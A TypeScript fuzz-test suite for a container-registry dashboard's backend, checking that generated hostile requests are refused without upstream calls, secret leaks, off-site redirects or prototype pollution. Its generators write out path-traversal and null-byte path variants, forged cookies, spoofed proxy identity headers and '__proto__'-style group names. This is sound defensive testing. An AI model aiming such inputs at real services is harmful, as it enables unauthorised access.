  /** Who sends: the API's users, or the sign-in routes' (scratch session, forged, nobody). */
  actors: readonly Actor[];
  queryKeys?: readonly string[];
  validQuery?: readonly Pair[];
  validBody?: unknown;
}

const AUDIT_KEYS = ['user', 'action', 'namespace', 'outcome', 'from', 'to'];
const BFF_ROUTES: readonly BffRoute[] = [
  { method: 'GET', path: '/api/me', actors: SIGNED_IN_API },
  { method: 'GET', path: '/api/regions', actors: SIGNED_IN_API },
  {
    method: 'GET',
    path: '/api/audit',
    actors: SIGNED_IN_API,
    queryKeys: [...AUDIT_KEYS, 'limit', 'offset'],
    validQuery: [
      ['action', 'login.success'],
      ['from', '2024-01-01'],
      ['to', '2099-01-01T00:00:00Z'],
      ['limit', '5'],
      ['offset', '0'],
    ],
  },
  {
    method: 'GET',
    path: '/api/audit.csv',
    actors: SIGNED_IN_API,
    queryKeys: AUDIT_KEYS,
    validQuery: [
      ['action', 'login.success'],
      ['outcome', 'success'],
    ],
  },
  { method: 'GET', path: '/api/sessions', actors: SIGNED_IN_API },
  {
    method: 'DELETE',
    path: '/api/sessions',
    actors: SIGNED_IN_API,
    queryKeys: ['user'],
    validQuery: [['user', 'urn:swr-dashboard:demo|nobody']],
  },
  {
    method: 'GET',
    path: '/auth/login',
    actors: SIGN_IN_ACTORS,
    queryKeys: ['returnTo'],
    validQuery: [['returnTo', '/repositories?ns=payments']],
  },
  { method: 'GET', path: '/auth/logout', actors: SIGN_IN_ACTORS },
  { method: 'POST', path: '/auth/logout', actors: SIGN_IN_ACTORS },
  { method: 'GET', path: '/auth/demo/users', actors: SIGN_IN_ACTORS },
  {
    method: 'POST',
    path: '/auth/demo/login',
    actors: SIGN_IN_ACTORS,
    validBody: { user: SIGNED_IN.scratch, returnTo: '/audit' },
  },
  {
    method: 'GET',
    path: '/auth/callback',
    actors: SIGN_IN_ACTORS,
    queryKeys: ['code', 'state', 'iss'],
    validQuery: [
      ['code', 'abc'],
      ['state', 'def'],
    ],
  },
  { method: 'GET', path: '/healthz', actors: [...SIGNED_IN_API, ...STRANGERS, 'scratch'] },
  { method: 'GET', path: '/readyz', actors: [...SIGNED_IN_API, ...STRANGERS, 'scratch'] },
];

function bffRequestArb(route: BffRoute, origin: string): fc.Arbitrary<HostileRequest> {
  const validPairs = route.validQuery ?? [];
  const versions: Versions = {
    actor: { valid: fc.constantFrom(...route.actors), hostile: fc.constantFrom(...STRANGERS) },
    method: { valid: fc.constant(route.method), hostile: otherMethodArb(route.method) },
    region: { valid: fc.constant(''), hostile: fc.constant('') },
    path: {
      valid: fc.constant(route.path),
      hostile: fc.oneof(
        fc.constantFrom(
          `${route.path}/`,
          `${route.path}/..`,
          `${route.path}%00`,
          `${route.path};x=1`,
          `${route.path}.json`,
          route.path.toUpperCase(),
          route.path.replace('/', '/./'),
          route.path.replace('/', '//'),
          `/%2e%2e${route.path}`,
          `${route.path}\\..\\`,
        ),
        hostileSegmentArb.map((segment) => `${route.path}/${segment}`),
      ),
    },
    query: {
      valid: fc.constant(validQuery(validPairs)),
      hostile: hostileQueryArb(route.queryKeys ?? [], validPairs),
    },
    body: { valid: validBodyArb(route.validBody), hostile: hostileBodyArb(route.validBody) },
    tweaks: {
      valid: fc.constant([]),
      hostile: fc.array(tweakArb(origin), { minLength: 1, maxLength: 3 }),
    },
  };
  return requestArb(
    versions,
    ['actor', 'method', 'path', 'query', 'body', 'tweaks'],
    (parts) => `${parts.path}${parts.query}`,
  );
}

/** Anywhere else: under /api, /auth and the root, with hostile segments. */
function strayRequestArb(origin: string): fc.Arbitrary<HostileRequest> {
  return fc
    .record({
      actor: fc.constantFrom(...SIGNED_IN_API, ...STRANGERS, 'scratch'),
      method: fc.constantFrom(...METHODS),
      prefix: fc.constantFrom('/api/', '/auth/', '/', '/api/swr', '/api/swr/', '/API/SWR/'),
      segments: fc.array(hostileSegmentArb, { minLength: 1, maxLength: 3 }),
      body: fc.oneof(fc.constant(undefined), hostileBodyArb(undefined)),
      tweaks: fc.array(tweakArb(origin), { maxLength: 2 }),
    })
    .map(({ actor, method, prefix, segments, body, tweaks }) => ({
      actor,
      method,
      target: `${prefix}${segments.join('/')}`,
      body,
      tweaks,
    }));
}

// ---------------------------------------------------------------------------------------------
// The stack, the users, and what every answer is checked against.

/** Limits far above this run's traffic: a 429 would hide what the input does. */
const NO_RATE_LIMITS = {
  RATE_LIMIT_READS_PER_MINUTE: '1000000',
  RATE_LIMIT_MUTATIONS_PER_MINUTE: '1000000',
  RATE_LIMIT_LOGIN_COMMANDS_PER_HOUR: '1000000',
  RATE_LIMIT_SIGN_IN_PER_MINUTE: '1000000',
};

let stack: Stack;
let regions: string[];
const browsers = new Map<SignedInActor, Browser>();
/** Every session id the BFF issued (from `Set-Cookie`), to look for in answers and logs. */
const sessionIds = new Set<string>();
const stats = {
  requests: 0,
  reachedUpstream: 0,
  contractValid: 0,
  codes: new Map<string, number>(),
  statuses: new Map<number, number>(),
};

function sessionIdOf(cookieValue: string): string | undefined {
  let decoded: string;
  try {
    decoded = decodeURIComponent(cookieValue);
  } catch {
    return undefined;
  }
  const match = /^s:(.+)\.[^.]+$/.exec(decoded);
  return match?.[1];
}

/** Keeps a browser's cookies as a browser would, and notes every session id issued. */
function absorbCookies(setCookie: string[] | undefined, browser: Browser | undefined): void {
  for (const line of setCookie ?? []) {
    const [pair = ''] = line.split(';');
    const at = pair.indexOf('=');
    if (at < 0) continue;
    const name = pair.slice(0, at);
    const value = pair.slice(at + 1);
    const id = name === SID_COOKIE ? sessionIdOf(value) : undefined;
    if (id !== undefined) sessionIds.add(id);
    if (browser === undefined) continue;
    if (value === '' || /max-age=0|expires=thu, 01 jan 1970/i.test(line)) {
      browser.cookies.delete(name);
    } else {
      browser.cookies.set(name, value);
    }
  }
}

function cookiesNow(): Map<Actor, string> {
  const cookies = new Map<Actor, string>([['forged', FORGED_COOKIE]]);
  for (const [actor, browser] of browsers) cookies.set(actor, browser.cookieHeader());
  return cookies;
}

function isRecord(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

/** Secrets that must never appear in an answer (AK: except in a docker login command). */
function leaksIn(on: Stack, text: string, allowAk: boolean): string[] {
  const { ak, sk } = on.bff.config.credentials;
  const found: string[] = [];
  if (text.includes(sk)) found.push('the SK');
  if (!allowAk && text.includes(ak)) found.push('the AK');
  if (/Signature=[0-9a-f]{16}/.test(text)) found.push('a request signature');
  for (const id of sessionIds) if (text.includes(id)) found.push('a session id');
  return found;
}

function errorShapeProblems(reply: Reply): string[] {
  const body = reply.json;
  if (!isRecord(body))
    return [`an error answer that is not a JSON object: ${reply.text.slice(0, 200)}`];
  const problems: string[] = [];
  const code = body.code;
  if (typeof code !== 'string' || !Object.hasOwn(ERROR_CODES, code)) {
    problems.push(`code ${JSON.stringify(code)} is not one of the BFF's codes`);
  } else {
    const expected = ERROR_CODES[code as keyof typeof ERROR_CODES];
    const mirrored = code === 'upstream_rejected' && reply.status >= 400 && reply.status < 500;
    if (reply.status !== expected && !mirrored)
      problems.push(`${code} answered with ${reply.status}`);
  }
  if (typeof body.message !== 'string' || body.message === '') problems.push('no message');
  if (typeof body.requestId !== 'string' || body.requestId !== reply.headers['x-request-id']) {
    problems.push('requestId missing or not the X-Request-Id answer header');
  }
  const extra = Object.keys(body).filter((key) => !ERROR_FIELDS.has(key));
  if (extra.length > 0) problems.push(`unexpected fields ${extra.join(', ')}`);
  if (!/^application\/json/.test(reply.headers['content-type'] ?? '')) {
    problems.push(`content type ${reply.headers['content-type'] ?? 'none'}`);
  }
  return problems;
}

/** Everything wrong with one answer; empty when it is as it must be. */
function problemsWith(on: Stack, wire: Wire, reply: Reply, upstreamCalls: number): string[] {
  const problems: string[] = [];
  const regionIds = new Set(on.bff.config.regions.map((region) => region.id));
  const accepted = acceptedOperation(wire, regionIds);
  const valid = accepted !== undefined;
  const code = isRecord(reply.json) && typeof reply.json.code === 'string' ? reply.json.code : '';
  if (reply.status >= 500) {
    // A refusal by the region's circuit breaker needs no call, but only valid input gets there.
    const mapped =
      (UPSTREAM_FAILURES.has(code) && upstreamCalls > 0) ||
      (code === 'region_unavailable' && valid);
    if (!mapped) problems.push(`a ${reply.status} (${code || reply.text.slice(0, 200)})`);
  }
  if (reply.status >= 400 && wire.method !== 'HEAD') problems.push(...errorShapeProblems(reply));
  if (!valid && !isReadyz(wire)) {
    if (upstreamCalls > 0)
      problems.push(`${upstreamCalls} upstream call(s) for input the contract refuses`);
    if (reply.status < 400 && wire.target.toLowerCase().startsWith(PROXY_PREFIX)) {
      problems.push(`input the contract refuses was answered ${reply.status}`);
    }
  }
  if (isReadyz(wire) && reply.status !== 200) problems.push(`/readyz answered ${reply.status}`);
  const location = reply.headers.location;
  if (location !== undefined && !SAME_ORIGIN_PATH.test(location)) {
    problems.push(`a redirect away from the console: ${location}`);
  }
  const returnTo = isRecord(reply.json) ? reply.json.returnTo : undefined;
  if (
    returnTo !== undefined &&
    !(typeof returnTo === 'string' && SAME_ORIGIN_PATH.test(returnTo))
  ) {
    problems.push(`a sign-in that returns away from the console: ${JSON.stringify(returnTo)}`);
  }
  const dockerLogin = accepted === 'createSecret' && reply.status < 300;
  const { 'set-cookie': _cookies, ...headers } = reply.headers;
  const leaks = leaksIn(on, `${reply.text}\n${JSON.stringify(headers)}`, dockerLogin);
  if (leaks.length > 0) problems.push(`the answer holds ${leaks.join(', ')}`);
  stats.requests += 1;
  if (upstreamCalls > 0) stats.reachedUpstream += 1;
  if (valid) stats.contractValid += 1;
  stats.statuses.set(reply.status, (stats.statuses.get(reply.status) ?? 0) + 1);
  if (code !== '') stats.codes.set(code, (stats.codes.get(code) ?? 0) + 1);
  return problems;
}

function describeRequest(wire: Wire, actor: Actor): string {
  const body =
    wire.body === undefined
      ? ''
      : ` body(${wire.body.length}B)=${wire.body.subarray(0, 200).toString('utf8')}`;
  return `${actor}: ${wire.method} ${wire.target.slice(0, 300)} ${JSON.stringify(wire.headers).slice(0, 400)}${body}`;
}

/** Sends one generated request to `on` and throws with every problem of its answer. */
async function check(on: Stack, input: HostileRequest): Promise<void> {
  const wire = toWire(input, on.origin, on === stack ? cookiesNow() : new Map<Actor, string>());
  const before = on.upstreamLog.length;
  const reply = await send(on.origin, wire);
  const upstreamCalls = on.upstreamLog.length - before;
  absorbCookies(
    reply.headers['set-cookie'],
    input.actor === 'scratch' ? browsers.get('scratch') : undefined,
  );
  const problems = problemsWith(on, wire, reply, upstreamCalls);
  if (problems.length > 0) {
    throw new Error(
      `${problems.join('; ')}\n  request: ${describeRequest(wire, input.actor)}\n  answer: ${reply.status} ${reply.text.slice(0, 300)}`,
    );
  }
}

/** Runs the property for one route, skipping the rare request over node's header-size limit. */
async function fuzz(
  arbitrary: fc.Arbitrary<HostileRequest>,
  on: Stack = stack,
  numRuns = RUNS_PER_ROUTE,
): Promise<void> {
  const fitting = arbitrary.filter(
    (input) => headSize(toWire(input, on.origin, cookiesNow())) < 14_000,
  );
  await fc.assert(
    fc.asyncProperty(fitting, (input) => check(on, input)),
    { ...fcOptions, numRuns },
  );
}

beforeAll(async () => {
  stack = await startStack({ env: NO_RATE_LIMITS });
  regions = stack.bff.config.regions.map((region) => region.id);
  for (const [actor, user] of Object.entries(SIGNED_IN) as [SignedInActor, string][]) {
    const browser = stack.browser();
    await browser.signInDemo(user);
    browsers.set(actor, browser);
    const id = sessionIdOf(browser.cookies.get(SID_COOKIE) ?? '');
    if (id === undefined) throw new Error(`no session cookie for ${user}`);
    sessionIds.add(id);
  }
});
afterAll(async () => {
  await stack.close();
});

describe('generated hostile requests at each of the 44 SWR operations', () => {
  it('derives one route per operation of the contract', () => {
    expect(operationNames).toHaveLength(44);
  });
  for (const name of operationNames) {
    it(`${operations[name].method} ${operations[name].path} (${name})`, async () => {
      await fuzz(swrRequestArb(name, stack.origin, regions));
    });
  }
});

describe('generated hostile requests at the BFF’s own routes', () => {
  for (const route of BFF_ROUTES) {
    it(`${route.method} ${route.path}`, async () => {
      await fuzz(bffRequestArb(route, stack.origin));
    });
  }
  it('anywhere else under /api, /auth and /', async () => {
    await fuzz(strayRequestArb(stack.origin));
  });
});

describe('header sign-in: generated identity headers from the trusted proxy', () => {
  let proxied: Stack;
  beforeAll(async () => {
    proxied = await startStack({
      env: {
        AUTH_MODE: 'header',
        TRUSTED_PROXY_CIDRS: '127.0.0.1/32,::1/128',
        SESSION_SECRETS: 'hostile-input-header-mode-secret-0123456789',
        ROLE_ADMIN_GROUPS: 'swr-admins',
        ROLE_OPERATOR_GROUPS: 'swr-operators,payments-team',
        ROLE_VIEWER_GROUPS: 'swr-viewers',
        NAMESPACE_SCOPES: 'payments-team=payments*',
        ...consoleKeyEnv,
        ...NO_RATE_LIMITS,
      },
      emulator: emulatorWithConsoleKey(),
    });
  });
  afterAll(async () => {
    await proxied.close();
  });

  /** Role groups, a scoped group, names every object has (`constructor`, ...), nonsense. */
  const GROUPS = [
    'swr-admins',
    'swr-operators',
    'swr-viewers',
    'payments-team',
    ...PROTOTYPE_KEYS,
    'valueOf',
    '__defineGetter__',
    'nobody',
    ' ',
  ];
  const identityArb = fc
    .record({
      user: fc.oneof(
        { weight: 3, arbitrary: fc.constant<HeaderValue>('alice') },
        { weight: 2, arbitrary: textArb },
        fc.constantFrom<HeaderValue>(['alice', 'mallory'], null, '__proto__'),
      ),
      email: fc.oneof(fc.constantFrom<HeaderValue>(null, 'alice@example.com'), textArb),
      groups: fc.oneof(
        {
          weight: 5,
          arbitrary: fc
            .array(fc.constantFrom(...GROUPS), { minLength: 1, maxLength: 4 })
            .map((groups) => groups.join(',')),
        },
        { weight: 1, arbitrary: textArb },
        fc.constantFrom<HeaderValue>(null, ['swr-admins', 'swr-viewers']),
      ),
    })
    .map(({ user, email, groups }): HeaderTweak[] => [
      { name: 'x-forwarded-user', value: user },
      { name: 'x-forwarded-email', value: email },
      { name: 'x-forwarded-groups', value: groups },
    ]);

  /** A valid call of an operation, as the table gives it. */
  function operationCall(name: OperationName): { method: string; target: string; body: unknown } {
    const definition = operations[name];
    const input = validInputOf(name);
    const path = buildPath(definition.path, input.params ?? {});
    const query = validQuery(encodeQuery(definition, input.query));
    return {
      method: definition.method,
      target: `${PROXY_PREFIX}${REGION}${path}${query}`,
      body: input.body,
    };
  }

  it('GET /api/me, SWR reads and a change, /auth/login, /auth/logout, /api/audit', async () => {
    const calls = [
      ...(
        [
          'listNamespaces',
          'showNamespace',
          'listReposDetails',
          'showRepository',
          'createNamespace',
        ] as const
      ).map(operationCall),
      { method: 'GET', target: '/api/me', body: undefined },
      { method: 'GET', target: '/api/audit?limit=5&offset=0', body: undefined },
      { method: 'GET', target: '/auth/login?returnTo=%2Frepositories', body: undefined },
      { method: 'POST', target: '/auth/logout', body: undefined },
    ];
    const arbitrary = fc
      .record({
        call: fc.constantFrom(...calls),
        identity: identityArb,
        extra: fc.array(tweakArb(proxied.origin), { maxLength: 1 }),
      })
      .map(({ call, identity, extra }): HostileRequest => ({
        actor: 'anonymous',
        method: call.method,
        target: call.target,
        body:
          call.body === undefined
            ? undefined
            : {
                text: JSON.stringify(call.body),
                charset: 'utf8',
                contentType: 'application/json',
                encoding: null,
                chunked: false,
              },
        tweaks: [...identity, ...extra],
      }));
    await fuzz(arbitrary, proxied, 6 * RUNS_PER_ROUTE);
  });

  it('a group named like a property of every object (`__proto__`, `constructor`, …) is no scope: no 500', async () => {
    const as = (groups: string) => ({
      'x-csrf': '1',
      'x-forwarded-user': 'alice',
      'x-forwarded-groups': groups,
    });
    const namespaces = `${PROXY_PREFIX}${REGION}/v2/manage/namespaces`;
    for (const group of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
      const me = await send(
        proxied.origin,
        bodiless('GET', '/api/me', as(`swr-operators,${group}`)),
      );
      expect(
        { status: me.status, scopes: (me.json as { namespaces?: unknown }).namespaces },
        group,
      ).toEqual({ status: 200, scopes: null });
      const list = await send(
        proxied.origin,
        bodiless('GET', namespaces, as(`swr-operators,${group}`)),
      );
      expect(list.status, `${group}: ${list.text}`).toBe(200);
      const scoped = await send(
        proxied.origin,
        bodiless('GET', '/api/me', as(`payments-team,${group}`)),
      );
      expect((scoped.json as { namespaces?: unknown }).namespaces, group).toEqual(['payments*']);
      const own = await send(
        proxied.origin,
        bodiless('GET', `${namespaces}/payments`, as(`payments-team,${group}`)),
      );
      expect(own.status, `${group}: ${own.text}`).toBe(200);
      const other = await send(
        proxied.origin,
        bodiless('GET', `${namespaces}/platform`, as(`payments-team,${group}`)),
      );
      expect(other.json, group).toMatchObject({ code: 'forbidden', reason: 'scope' });
    }
  });
});

describe('regressions and what node refuses before the BFF', () => {
  it('a body that does not decompress as its Content-Encoding says → 400 invalid_parameter, nothing sent', async () => {
    const admin = cookiesNow().get('admin') ?? '';
    const targets = [
      { target: `${PROXY_PREFIX}${REGION}/v2/manage/namespaces`, cookie: admin },
      { target: '/auth/demo/login', cookie: '' },
    ];
    for (const { target, cookie } of targets) {
      for (const [encoding, body] of [
        ['gzip', '{"namespace":"not-gzip"}'],
        ['gzip', ''],
        ['deflate', '{"namespace":"not-deflate"}'],
        ['br', 'not brotli'],
      ] as const) {
        const before = stack.upstreamLog.length;
        const reply = await send(stack.origin, {
          method: 'POST',
          target,
          headers: {
            cookie,
            'x-csrf': '1',
            origin: stack.origin,
            'content-type': 'application/json',
            'content-encoding': encoding,
            'content-length': String(Buffer.byteLength(body)),
          },
          body: Buffer.from(body),
          bodyValue: { ok: false },
        });
        const what = `${target} with ${encoding} ${JSON.stringify(body)}`;
        expect(
          { status: reply.status, code: (reply.json as { code?: unknown }).code },
          what,
        ).toEqual({
          status: 400,
          code: 'invalid_parameter',
        });
        expect(errorShapeProblems(reply), what).toEqual([]);
        expect(stack.upstreamLog.length - before, what).toBe(0);
      }
    }
    // Really compressed JSON is read as JSON (and validated like any body).
    const before = stack.upstreamLog.length;
    const reply = await send(stack.origin, {
      method: 'POST',
      target: `${PROXY_PREFIX}${REGION}/v2/manage/namespaces`,
      headers: {
        cookie: admin,
        'x-csrf': '1',
        origin: stack.origin,
        'content-type': 'application/json',
        'content-encoding': 'gzip',
      },
      body: gzipSync('{"namespace":"Not A Name"}'),
      bodyValue: { ok: false },
    });
    expect(reply.json).toMatchObject({
      code: 'invalid_parameter',
      issues: [{ path: 'body.namespace' }],
    });
    expect(stack.upstreamLog.length - before).toBe(0);
  });

  it('raw non-ASCII bytes in the target and heads over 16 KB are refused by node (400, 431): nothing sent, the BFF still answers', async () => {
    const host = new URL(stack.origin).host;
    const admin = cookiesNow().get('admin') ?? '';
    const before = stack.upstreamLog.length;
    for (const target of [
      `${PROXY_PREFIX}${REGION}/v2/manage/namespaces/\u00ef\u00bc\u008e\u00ef\u00bc\u008e`,
      `${PROXY_PREFIX}${REGION}/v2/manage/namespaces/pay\u00c3\u00a9ments`,
      `/api/me?name=\u00f0\u009f\u0098\u0080`,
    ]) {
      const reply = await sendOverSocket(
        stack.origin,
        [`GET ${target} HTTP/1.1`, `Host: ${host}`, `Cookie: ${admin}`, 'X-CSRF: 1'].join('\r\n'),
      );
      expect(reply.status, target).toBe(400);
    }
    const big = await sendOverSocket(
      stack.origin,
      [
        `GET /api/me HTTP/1.1`,
        `Host: ${host}`,
        `Cookie: ${admin}`,
        'X-CSRF: 1',
        `X-Big: ${'a'.repeat(17_000)}`,
      ].join('\r\n'),
    );
    expect(big.status).toBe(431);
    expect(stack.upstreamLog.length - before).toBe(0);
    const me = await send(stack.origin, {
      method: 'GET',
      target: '/api/me',
      headers: { cookie: admin, 'x-csrf': '1' },
      body: undefined,
      bodyValue: { ok: true, value: undefined },
    });
    expect(me.status).toBe(200);
  });
});

describe('after the run', () => {
  it('covered the routes meaningfully: refusals of every kind, and calls that reached SWR', () => {
    expect(stats.requests).toBeGreaterThanOrEqual((44 + BFF_ROUTES.length + 1) * RUNS_PER_ROUTE);
    expect(stats.reachedUpstream).toBeGreaterThan(0);
    expect(stats.contractValid).toBeGreaterThan(0);
    for (const code of [
      'invalid_parameter',
      'invalid_json',
      'unsupported_media_type',
      'payload_too_large',
      'csrf',
      'unauthenticated',
      'forbidden',
      'not_found',
      'method_not_allowed',
    ]) {
      expect(stats.codes.get(code) ?? 0, code).toBeGreaterThan(0);
    }
  });

  it('still answers /healthz, /readyz and a signed-in read, and logged no unexpected error or secret', async () => {
    const health = await send(stack.origin, {
      method: 'GET',
      target: '/healthz',
      headers: {},
      body: undefined,
      bodyValue: { ok: true, value: undefined },
    });
    expect({ status: health.status, body: health.json }).toEqual({
      status: 200,
      body: { status: 'ok' },
    });
    const admin = browsers.get('admin');
    if (admin === undefined) throw new Error('no admin');
    expect((await admin.get('/readyz')).status).toBe(200);
    const list = await admin.get(`/api/swr/${regions[0] ?? ''}/v2/manage/namespaces`);
    expect(list.status, list.text).toBe(200);
    expect(stack.logLines.filter((line) => line.includes('unexpected error'))).toEqual([]);
    // The BFF runs in this process: a prototype polluted by a body or query would show here.
    expect(Object.getOwnPropertyNames(Object.prototype)).not.toContain('isAdmin');
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    const leaks = stack.logLines.filter((line) => leaksIn(stack, line, false).length > 0);
    expect(leaks).toEqual([]);
  });
});
